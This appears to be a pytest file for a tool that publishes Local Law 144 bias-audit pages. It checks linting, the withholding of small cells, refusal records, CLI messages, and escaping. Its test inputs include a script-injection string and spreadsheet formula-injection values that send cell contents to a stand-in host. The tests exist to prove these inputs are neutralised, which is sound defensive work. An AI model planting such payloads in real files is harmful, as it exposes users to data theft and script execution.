"""The page of Local Law 144: drafts that give nobody away, complete pages by an approver, and our own lint passes them."""

from __future__ import annotations

import csv
import re
import shutil
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from typer.testing import CliRunner

from audit.acts.publication import Publication as Published
from audit.complement import MINIMUM_CELL
from audit.publication.form import Publication, Row, Table, read
from audit.publication.lint import lint
from audit.publication.withheld import draft, withheld
from dashboard import publishing
from dashboard.cli import app
from dashboard.governing import Refused
from dashboard.paper.publication import as_csv
from dashboard.paper.publication import page as printed
from dashboard.publishing import Said
from models.record import sha256
from storage.archive import Archive
from storage.ledger import Actor
from tests.dashboard import stores

VAL, ADA = Actor("Val Idate", "oidc"), stores.ADA
DAY, SAID = date(2026, 4, 1), Said(date(2024, 1, 15), 'Applications of 2025 <script>alert("1")</script>')


@pytest.fixture(scope="module")
def home(kept: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("publishing") / "home"
    shutil.copytree(kept, folder)
    return folder


@pytest.fixture
def archive(home: Path) -> Any:
    with stores.archive(home) as opened:
        yield opened


class Cells(HTMLParser):
    """The rows of every table of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self._cell = False
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        if tag == "tr":
            self.rows.append([])
        if tag in ("td", "th"):
            self.rows[-1].append("")
        self._cell = tag in ("td", "th")

    def handle_data(self, data: str) -> None:
        if self._cell and self.rows and self.rows[-1]:
            self.rows[-1][-1] += data


def test_a_published_page_survives_our_own_reader(archive: Archive, tmp_path: Path) -> None:
    page = publishing.publish(archive, "mortgage@2", "ll144", SAID, VAL, DAY)
    files = {one.suffix: one for one in publishing.write(page, tmp_path, "mortgage@2", "ll144")}
    for suffix in (".csv", ".json"):
        found = lint(read(files[suffix]), DAY)
        assert not found.findings, found.findings
        assert not found.unchecked
    printed = read(files[".json"])
    assert {one.table for one in printed.tables} == {"sex", "race", "intersection"}
    assert {one.kind for one in printed.tables} == {"selection", "scoring"}
    shown = [
        [one.strip() for one in row[1:]]
        for row in Cells(files[".html"].read_text()).rows
        if row[1:] and row[1] != "Applicants or candidates"
    ]
    told = [
        [str(row.n), row.rate.text if row.rate else "–", row.published_ratio.text if row.published_ratio else "–"]
        for table in printed.tables for row in table.rows
    ]  # fmt: skip
    assert shown == told


@pytest.mark.parametrize("begins", ["=", "+", "-", "@"])
def test_no_category_is_a_formula_for_a_spreadsheet(begins: str) -> None:
    hostile = f'{begins}HYPERLINK("http://x.example")'
    rows = (Row(group=hostile, n=40, rate="50 %"), Row(group="other", n=60, rate="40 %"))
    made = Publication(tables=(Table(table="sex", rows=rows),))
    written = list(csv.reader(as_csv(made, draft=True).splitlines()))
    cells = [cell for row in written for cell in row]
    assert f"'{hostile}" in cells
    assert not any(cell.startswith(begins) for cell in cells)


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", " =", "  +"])
@pytest.mark.parametrize("apart", [",", ";"])
def test_no_word_about_the_data_is_a_formula_for_a_spreadsheet(begins: str, apart: str, tmp_path: Path) -> None:
    source = f'Our HR system{apart}{begins}HYPERLINK("http://x.example"&A1){apart} 2025'
    written = as_csv(said(source), draft=False)
    cells = [cell for row in csv.reader(written.splitlines(), delimiter=apart) for cell in row]
    assert not any(cell.strip().startswith(("=", "+", "-", "@")) for cell in cells)
    (tmp_path / "page.csv").write_text(written)
    assert read(tmp_path / "page.csv").data_source == source


@pytest.mark.parametrize("line", ["\u2028", "\u2029", "\x85", "\n"])
def test_what_ends_a_line_in_a_word_about_the_data_is_read_back(line: str, tmp_path: Path) -> None:
    (tmp_path / "page.csv").write_text(as_csv(said(f"one{line}two"), draft=False))
    assert read(tmp_path / "page.csv").data_source == f"one{line}two"


def said(source: str) -> Publication:
    rows = (Row(group="a", n=40, rate="50 %"), Row(group="b", n=60, rate="40 %"))
    return Publication(data_source=source, tables=(Table(table="sex", rows=rows),))


@pytest.mark.parametrize(("kind", "best"), [("scoring", "highest scoring"), ("selection", "most selected")])
def test_the_category_that_others_are_divided_by_is_called_after_its_rate(archive: Archive, kind: Any, best: str) -> None:  # fmt: skip
    rows = (Row(group="a", n=40, rate="0.5", benchmark=True), Row(group="b", n=60, rate="0.4", published_ratio="0.8"))
    made = Publication(tables=(Table(table="sex", kind=kind, rows=rows),))
    written = printed(made, archive.newest_report("mortgage@2"), draft=False)
    assert f"by that of the {best} category" in written
    assert f"The {best} category: the others are divided by its rate." in written
    assert ("most selected" in written) == (kind == "selection")


def test_publishing_is_one_act_that_names_the_page(archive: Archive) -> None:
    page = publishing.publish(archive, "mortgage@2", "ll144", SAID, VAL, DAY)
    assert page.act is not None
    assert isinstance(page.act.content, Published)
    assert page.act.content.digest == sha256(page.files["html"])
    assert page.act.content.report == archive.newest_report("mortgage@2").key
    assert (page.act.actor, page.act.known_by) == ("Val Idate", "oidc")
    assert publishing.publish(archive, "mortgage@2", "ll144", SAID, VAL, DAY) == page


@pytest.mark.parametrize(
    ("actor", "said", "day", "why"),
    [
        (ADA, SAID, DAY, "made the version"),
        (Actor("Val Idate", "os-user"), SAID, DAY, "known by the operating system alone"),
        (VAL, Said(), DAY, "distribution date of the tool is not given"),
        (VAL, SAID, date(2028, 1, 1), "it may be used for 365"),
    ],
)
def test_what_may_not_be_published_is_refused_and_kept(archive: Archive, actor: Actor, said: Said, day: date, why: str) -> None:  # fmt: skip
    before = len(archive.acts("mortgage", "refusal"))
    published = len(archive.acts("mortgage", "publication"))
    with pytest.raises(Refused, match=why):
        publishing.publish(archive, "mortgage@2", "ll144", said, actor, day)
    refused = archive.acts("mortgage", "refusal")
    assert len(refused) == before + 1
    assert refused[-1].content.tried == "publish"  # type: ignore[union-attr]
    assert len(archive.acts("mortgage", "publication")) == published


def test_a_page_asks_no_one_and_prints_hostile_words(archive: Archive) -> None:
    page = publishing.publish(archive, "mortgage@2", "ll144", SAID, VAL, DAY).files["html"].decode()
    assert "<script" not in page
    assert "&lt;script&gt;" in page
    assert "default-src 'none'" in page
    assert not re.search(r"\s(src|href|action)=", page)
    assert "DRAFT" not in page
    assert "complian" not in page.lower()


def test_a_draft_says_so_wherever_it_is_read(archive: Archive, tmp_path: Path) -> None:
    page = publishing.sketch(archive, "mortgage@2", "ll144", Said())
    for one in publishing.write(page, tmp_path, "mortgage@2", "ll144"):
        assert "draft" in one.name
        assert "DRAFT" in one.read_text()
    assert page.act is None


def small(cells: dict[tuple[str, str], int]) -> Publication:
    """Tables of sex, race and both, of people who are counted in each."""
    sexes, races = (dict.fromkeys(key[at] for key in cells) for at in (1, 0))

    def row(name: str, n: int) -> dict[str, Any]:
        return {"group": name, "n": n, "rate": "0.500", "published_ratio": "1.000"}

    return Publication.model_validate({
        "tables": [
            {"table": "sex", "rows": [row(one, sum(n for key, n in cells.items() if key[1] == one)) for one in sexes]},
            {"table": "race", "rows": [row(one, sum(n for key, n in cells.items() if key[0] == one)) for one in races]},
            {"table": "intersection", "rows": [row(" & ".join(key), n) for key, n in cells.items()]},
        ]
    })  # fmt: skip


def test_no_total_gives_away_what_a_draft_withholds() -> None:
    draw = np.random.default_rng(0)
    for _ in range(60):
        races, sexes = ("asian", "black", "white", "other")[: draw.integers(2, 5)], ("female", "male")
        cells = {(r, s): int(draw.choice([0, 3, 7, 9, 12, 40, 200])) for r in races for s in sexes}
        made = small(cells)
        hidden, shown = withheld(made), draft(made)
        for table in shown.tables:
            for row in table.rows:
                assert (row.n is None) == ((table.table, row.group) in hidden)
                assert row.n is None or row.n == 0 or row.n >= MINIMUM_CELL
        sizes = {(t.table, r.group): r.n or 0 for t in made.tables for r in t.rows}
        sums = [{cell for cell in sizes if cell[0] == name} for name in ("sex", "race", "intersection")]
        sums += [{(name, one), *(("intersection", " & ".join(key)) for key in cells if one in key)}
                 for name, some in (("sex", sexes), ("race", races)) for one in some]  # fmt: skip
        for cells_of in sums:
            lacking = [cell for cell in cells_of & hidden if sizes[cell]]
            others = [cell for cell in cells_of - hidden if sizes[cell]]
            assert len(lacking) != 1 or not others


def test_a_category_under_two_percent_is_shown_with_its_reason_and_without_a_ratio(tmp_path: Path) -> None:
    drawn = stores.draw("mortgage", 1.5, 0.1, n=900)
    race = drawn.groups.labels["race"].copy()
    race[:12] = "islander"
    groups = type(drawn.groups)({**drawn.groups.labels, "race": race}, ())
    with stores.archive(tmp_path) as archive:
        stores.keep(archive, stores.card("mortgage", 1), stores.Drawn(drawn.predictions, groups), stores.START)
        page = publishing.publish(archive, "mortgage@1", "ll144", SAID, VAL, date(2026, 3, 10))
        files = {one.suffix: one for one in publishing.write(page, tmp_path / "page", "mortgage@1", "ll144")}
    found = read(files[".csv"])
    (row,) = [one for table in found.tables if (table.table, table.kind) == ("race", "selection")
              for one in table.rows if one.group == "islander"]  # fmt: skip
    assert (row.n, row.published_ratio, row.excluded) == (12, None, True)
    assert "under 2%" in row.justification
    assert not lint(found, date(2026, 3, 10)).findings
    assert row.justification in files[".html"].read_text()


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (("mortgage@2", "--law", "gdpr"), "Known: ll144"),
        (("digits@2", "--law", "ll144"), "no table of Local Law 144"),
        (("breast_cancer@1", "--law", "ll144"), "has no report yet"),
        (("mortgage@2", "--law", "ll144", "--publish"), "cannot publish the audit of mortgage@2"),
    ],
)
def test_what_cannot_be_published_is_one_sentence(words: tuple[str, ...], says: str, populated: Path) -> None:
    said = CliRunner().invoke(app, ["publish", *words], env={"COLUMNS": "200"})
    assert said.exit_code == 2
    assert says in said.output
    assert "Traceback" not in said.output


def test_the_terminal_writes_a_draft(populated: Path, tmp_path: Path) -> None:
    said = CliRunner().invoke(app, ["publish", "mortgage@2", "--law", "ll144", "-o", str(tmp_path)])
    assert said.exit_code == 0, said.output
    assert sorted(one.suffix for one in tmp_path.glob("mortgage-2-ll144-draft.*")) == [".csv", ".html", ".json"]
